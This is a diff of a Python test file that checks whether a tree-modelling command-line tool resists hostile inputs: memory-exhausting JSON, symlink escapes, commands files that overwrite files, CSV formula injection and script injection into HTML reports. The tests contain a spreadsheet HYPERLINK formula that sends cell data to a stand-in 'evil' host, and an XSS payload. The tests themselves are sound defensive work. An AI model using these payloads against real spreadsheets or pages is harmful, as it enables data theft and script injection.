@@ -1,18 +1,20 @@
 """Files, names and numbers that were made to do harm: each is taken for what it is, or refused with a word."""
 
-import gzip
+import csv
 import json
 import os
 import pathlib
+import re
 import resource
 import socket
 import subprocess
-import sys
+import tarfile
 import time
 import unittest
 
 from ramus import GOOD, RAMUS, SANITIZER_MEMORY, CommandLineTest
 
+SHARED = pathlib.Path(os.environ.get("RAMUS_SHARED_DATA", "")) / "hostile"
 SIZE = ("--size", "160x120")
 ESCAPE = "\x1b[2J\x1b]0;pwned\x07"
 
@@ -52,61 +54,6 @@ class Json(Hostile):
                 self.expect_failure(*command, says=["deeper than 64 levels"])
         self.expect_failure("render", "tree.swc", "--camera", "camera.json", "-o", "a.png", *SIZE, says=["camera.json"])
         self.assertNotIn("a.png", self.names())
-
-    def peak(self, *arguments):
-        """Status, standard error, and the most memory in MiB of a run."""
-        # A process that is forked begins with its parent's memory, so the parent is a small one.
-        wait = "import os, sys; pid = os.spawnv(os.P_NOWAIT, sys.argv[1], sys.argv[1:]); _, status, usage = os.wait4(pid, 0); " \
-               "print(os.waitstatus_to_exitcode(status), usage.ru_maxrss >> 10)"
-        result = subprocess.run([sys.executable, "-c", wait, RAMUS, *map(str, arguments)], cwd=self.folder, text=True,
-                                capture_output=True, timeout=120, check=True)
-        status, most = result.stdout.split()[-2:]
-        return int(status), result.stderr, int(most) - (SANITIZER_MEMORY >> 20)
-
-    def test_values_of_json_do_not_fill_the_memory(self):
-        head = '{"format": "ramus-tree", "version": 2, "units": "mm", "orientation": "RAS", "points": [[0,0,0,1],[9,0,0,1]], ' \
-               '"branches": [[0,1]], "roots": [0], '
-        count = 2_000_000
-        for name, element in (("lists", "[]"), ("objects", "{}"), ("texts", '""'), ("numbers", "1"), ("nested", "[[[]]]"),
-                              ("members", '{"a":{}}')):
-            many = "[" + ",".join([element] * count) + "]"
-            files = {"points.json": head.replace("[[0,0,0,1],[9,0,0,1]]", many) + '"notes": []}',
-                     "branches.json": head.replace("[[0,1]]", many) + '"notes": []}',
-                     "notes.json": head + '"notes": %s}' % many,
-                     "systems.json": head + '"systems": %s}' % many,
-                     "more.json": head + '"more": [%s]}' % many,
-                     "a.mrk.json": '{"@schema": "markups-schema", "markups": %s}' % many,
-                     "b.mrk.json": '{"@schema": "markups-schema", "markups": [{"type": "Curve", "controlPoints": %s}]}' % many,
-                     "c.mrk.json": '{"@schema": "markups-schema", "markups": [], "ramus": {"curves": [%s]}}' % many,
-                     "a.vvg": '{"graph": {"nodes": %s, "edges": []}}' % many,
-                     "b.vvg": '{"graph": {"nodes": [{"id": 1, "pos": [0,0,0], "voxels_": %s}], "edges": %s}}' % (many, many)}
-            for file, text in files.items():
-                if element != "[]" and file not in ("points.json", "b.mrk.json"):
-                    continue
-                with self.subTest(name, file=file):
-                    self.write(file, text)
-                    status, error, most = self.peak("info", file)
-                    self.assertIn(status, (0, 1), error)
-                    # What an idle run has, the text twice, and the values that are kept at once.
-                    self.assertLess(most, 60 + 2 * (len(text) >> 20) + 170, (status, error))
-            for member in ("tree", "selection", "context", "options", "cuts") if element == "[]" else ("context",):
-                with self.subTest(name, member=member):
-                    self.write("s.ramus.json", '{"version": 1, "tree": {"path": "tree.swc"}, "%s": %s}' % (member, many))
-                    status, error, most = self.peak("mesh", "tree.swc", "--session", "s.ramus.json", "-o", "a.stl")
-                    self.assertEqual(status, 1, error)
-                    self.assertLess(most, 60 + 2 * (len(many) >> 20) + 170, error)
-
-    def test_a_small_file_stays_small(self):
-        shared = pathlib.Path(__file__).parents[2] / "../shared/data/hostile/json_memory_58kB.json.gz"
-        bomb = gzip.compress(b'{"format":"ramus-tree","points":[' + b"[]," * 20_000_000)
-        for file in (self.write("bomb.json.gz", bomb), shared):
-            if not file.exists():
-                print("skipped: there is no", file)
-                continue
-            status, error, most = self.peak("info", file)
-            self.assertEqual(status, 1, error)
-            self.assertIn("grow to more than 16 MiB", error)
-            self.assertLess(most, 100, error)
 
     def test_sessions_have_so_much_and_no_more(self):
         for count, status in ((10_001, 1), (10_000, 0)):
@@ -171,6 +118,11 @@ class NamedFiles(Hostile):
                     result = self.run_ramus("info", "in/" + file)
                     self.assertEqual("outside of the header's folder" in result.stderr, not good, result.stderr)
                     self.assertEqual(result.returncode, 0 if good else 1, result.stderr)
+        found = SHARED / "nhdr_symlink_values.tar"
+        if found.exists():
+            with tarfile.open(found) as files:
+                files.extractall(self.folder / "found", filter="fully_trusted")
+            self.expect_failure("info", next((self.folder / "found").rglob("*.nhdr")), says=["outside of the header's folder"])
         (self.folder / "way").symlink_to("in")  # the folder may be a link itself
         self.write("in/v.nhdr", "NRRD0004\ntype: uchar\ndimension: 3\nsizes: 60 60 1\nencoding: raw\ndata file: inside.raw\n")
         self.expect_done("info", "way/v.nhdr")
@@ -216,6 +168,101 @@ class Terminal(Hostile):
             for cell in (cell for row in text.splitlines() for cell in row.split(",")):
                 if cell[:1] in "=+-@" and len(cell) > 1:
                     float(cell)
+
+
+    def test_pairs_of_tables_have_no_formulas(self):
+        names = ["=HYPERLINK(\"http://evil/?\"&A1)", 'a\nb";x', "+1+2", "@SUM(A1)", "-2+3", "\t=1", "plain", "-3.5", "x;=1", "'q"]
+        points = [[10 * i, 0, 50 * i, 1] for i in range(2 * len(names))]
+        self.write("t.json", tree_json(
+            version=2, points=points, branches=[[2 * i, 2 * i + 1] for i in range(len(names))], roots=[2 * i for i in range(len(names))],
+            systems=[{"name": name, "colour": [1, 2, i]} for i, name in enumerate(names)], branch_systems=list(range(len(names))),
+            point_data={"=1+1": [1] * len(points)}, branch_data={"@cmd": [1] * len(names)}))
+        self.expect_done("convert", "t.json", "-o", "t.csv")
+        for file in ("t.csv", "t_edges.csv"):
+            with open(self.folder / file, newline="", encoding="utf-8") as table:
+                for row in csv.reader(table, delimiter=";"):
+                    for cell in row:
+                        if cell[:1] in ("=", "+", "-", "@", "\t") and len(cell) > 1:
+                            float(cell)  # else a spreadsheet would work it out
+        if (SHARED / "csv_formula_system.json").exists():
+            self.expect_done("convert", SHARED / "csv_formula_system.json", "-o", "found.csv")
+            self.assertNotIn(";=", (self.folder / "found.csv").read_text())
+        before, after = self.json("info", "t.json", "--json"), self.json("info", "t.csv", "--json")
+        self.assertEqual(list(before["systems"]), list(after["systems"]))
+        self.expect_done("convert", "t.csv", "-o", "back.json")
+        self.assertIn("=1+1", json.loads((self.folder / "back.json").read_text())["point_data"])
+
+    def test_pages_run_and_load_nothing(self):
+        name = "<script>alert(1)</script><img src=http://evil/x>"
+        self.write("t.json", tree_json(version=2, systems=[{"name": name, "colour": [1, 2, 3]}], branch_systems=[0]))
+        self.write("c.txt", "report page.html\nreport case.html --case \"%s\"\n" % name)
+        self.expect_done("render", "t.json", "--commands", "c.txt", *SIZE)
+        self.expect_done("validate", "t.json", "--report", "v")
+        self.expect_done("study", "tree.swc", "-o", "s", "--size", "64x48")
+        pages = [path for path in self.folder.rglob("*.html")]
+        self.assertEqual(len(pages), 4)
+        for page in pages:
+            with self.subTest(page.name):
+                text = page.read_text()
+                policy = re.search(r'<meta http-equiv="Content-Security-Policy" content="([^"]*)">', text)
+                self.assertIsNotNone(policy)
+                self.assertLess(policy.start(), text.index("<style"))
+                parts = dict(part.strip().split(" ", 1) for part in policy[1].split(";"))
+                self.assertEqual((parts["default-src"], parts["img-src"], parts["base-uri"], parts["form-action"]),
+                                 ("'none'", "data:", "'none'", "'none'"))
+                self.assertEqual("script-src" in parts, page.name.startswith("rater"))
+                self.assertNotIn("<script>alert", text)
+
+
+class Commands(Hostile):
+    """A commands file may come from somebody else."""
+
+    LINES = ("report victim.html", "report victim.csv", "shot victim.png", "save victim.ramus.json", "export tree victim.swc",
+             "export tree pair.csv", "export surface victim.stl", "export turntable turn.png --pictures 3 --size 64x48",
+             "report lnk.html", "shot hard.png", "export table victim.csv")
+    FILES = ("victim.html", "victim.csv", "victim.png", "victim.ramus.json", "victim.swc", "victim.stl", "pair_edges.csv",
+             "turn_002.png", "hard.png", "behind.html")
+
+    def test_they_replace_no_file_that_was_there(self):
+        for name in self.FILES:
+            self.write(name, "mine")
+        (self.folder / "lnk.html").symlink_to("behind.html")
+        before = self.names()
+        for line in self.LINES:
+            with self.subTest(line):
+                self.write("c.txt", "select 0\n" + line + "\n")
+                self.expect_failure("render", "tree.swc", "--commands", "c.txt", *SIZE, says=["c.txt:2", "--overwrite"])
+                (self.folder / "c.txt").unlink()
+                self.assertEqual(self.names(), before)
+                for name in self.FILES:
+                    self.assertEqual((self.folder / name).read_text(), "mine")
+        self.write("c.txt", "select 0\n" + "\n".join(self.LINES) + "\n")
+        self.expect_done("render", "tree.swc", "--commands", "c.txt", "--overwrite", *SIZE)
+        for name in self.FILES:
+            self.assertNotEqual((self.folder / name).read_bytes(), b"mine", name)
+
+    def test_they_replace_what_they_made(self):
+        self.write("c.txt", "select 0\nreport new.csv\nshot new.png\nselect 1\nreport new.csv\nshot new.png\nsave s.ramus.json\n"
+                            "save s.ramus.json\nexport tree pair.csv\nexport tree pair.csv\n")
+        self.expect_done("render", "tree.swc", "--commands", "c.txt", *SIZE)
+        self.write("out.png", "mine")  # what the command line names is the person's own wish
+        self.write("c.txt", "select 0\n")
+        self.expect_done("render", "tree.swc", "--commands", "c.txt", "-o", "out.png", *SIZE)
+        self.assertNotEqual((self.folder / "out.png").read_bytes(), b"mine")
+
+    def test_the_file_that_was_found(self):
+        found = SHARED / "commands_overwrite.txt"
+        if not found.exists():
+            self.skipTest("SKIPPED: no shared/data")
+        names = ("victim.html", "victim.csv", "victim.png", "victim.ramus.json", "victim.swc")
+        for name in names:
+            self.write(name, "mine")
+        self.expect_failure("render", "tree.swc", "--commands", found, *SIZE, says=["victim.html", "--overwrite"])
+        for name in names:
+            self.assertEqual((self.folder / name).read_text(), "mine")
+
+    def test_overwrite_is_of_commands(self):
+        self.expect_failure("render", "tree.swc", "-o", "a.png", "--overwrite", status=2, says=["--commands"])
 
 
 class Numbers(Hostile):
